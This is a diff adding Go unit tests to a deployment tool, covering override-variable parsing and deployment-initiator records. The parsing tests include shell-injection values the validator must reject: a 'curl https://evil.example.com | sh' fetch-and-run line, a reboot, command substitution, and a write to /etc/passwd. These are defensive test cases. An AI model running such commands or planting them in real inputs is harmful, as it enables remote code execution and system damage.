@@ -1,6 +1,14 @@
 package main
 
-import "testing"
+import (
+	"net/http/httptest"
+	"net/url"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/applikatoni/applikatoni/models"
+)
 
 func TestIsValidCommitSha(t *testing.T) {
 	tests := []struct {
@@ -24,3 +32,74 @@ func TestIsValidCommitSha(t *testing.T) {
 		}
 	}
 }
+
+func TestParseOverrides(t *testing.T) {
+	target := &models.Target{Name: "production", OverridableVariables: []string{"MIGRATION_TIMEOUT", "WORKERS"}}
+
+	tests := []struct {
+		input    string
+		expected map[string]string
+		err      string
+	}{
+		{"", nil, ""},
+		{"MIGRATION_TIMEOUT=600", map[string]string{"MIGRATION_TIMEOUT": "600"}, ""},
+		{"MIGRATION_TIMEOUT = 600\r\n\nWORKERS=", map[string]string{"MIGRATION_TIMEOUT": "600", "WORKERS": ""}, ""},
+		{"WORKERS=a=b", map[string]string{"WORKERS": "a=b"}, ""},
+		{"RAILS_ENV=development", nil, "RAILS_ENV can't be overridden on production"},
+		{"WORKERS", nil, "invalid override"},
+		{"=4", nil, "invalid override"},
+		{"WORKERS=4\nWORKERS=8", nil, "WORKERS is overridden twice"},
+		{"MIGRATION_TIMEOUT=https://example.com/a_b-c.d:80/@x+y", map[string]string{"MIGRATION_TIMEOUT": "https://example.com/a_b-c.d:80/@x+y"}, ""},
+		{"WORKERS=4; curl https://evil.example.com | sh", nil, "invalid value of WORKERS"},
+		{"WORKERS=4 && reboot", nil, "invalid value of WORKERS"},
+		{"WORKERS=$(id)", nil, "invalid value of WORKERS"},
+		{"WORKERS=`id`", nil, "invalid value of WORKERS"},
+		{"WORKERS='4'", nil, "invalid value of WORKERS"},
+		{"WORKERS=4 > /etc/passwd", nil, "invalid value of WORKERS"},
+	}
+
+	for _, tt := range tests {
+		overrides, err := parseOverrides(target, tt.input)
+		if tt.err != "" {
+			if err == nil || !strings.Contains(err.Error(), tt.err) {
+				t.Errorf("wrong error for %q. want=%q, got=%v", tt.input, tt.err, err)
+			}
+			continue
+		}
+		checkErr(t, err)
+
+		if !reflect.DeepEqual(overrides, tt.expected) {
+			t.Errorf("wrong overrides for %q. want=%v, got=%v", tt.input, tt.expected, overrides)
+		}
+	}
+}
+
+func TestNewDeploymentInitiator(t *testing.T) {
+	form := url.Values{}
+	form.Set("build_url", "https://ci.example.com/builds/123")
+	form.Set("build_number", "123")
+	form.Set("on_behalf_of", "alice")
+
+	r := httptest.NewRequest("POST", "/web/deployments", strings.NewReader(form.Encode()))
+	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	r.RemoteAddr = "10.0.0.1:51234"
+
+	ci := &models.User{Name: "ci", ServiceAccount: &models.ServiceAccount{Name: "ci"}}
+	initiator := newDeploymentInitiator(r, ci)
+
+	expected := models.DeploymentInitiator{
+		TokenName:   "ci",
+		SourceIP:    "10.0.0.1",
+		BuildURL:    "https://ci.example.com/builds/123",
+		BuildNumber: "123",
+		OnBehalfOf:  "alice",
+	}
+	if *initiator != expected {
+		t.Errorf("wrong initiator. want=%+v, got=%+v", expected, initiator)
+	}
+
+	initiator = newDeploymentInitiator(r, &models.User{Name: "mrnugget"})
+	if initiator.TokenName != "personal API token" {
+		t.Errorf("wrong token name. want=%s, got=%s", "personal API token", initiator.TokenName)
+	}
+}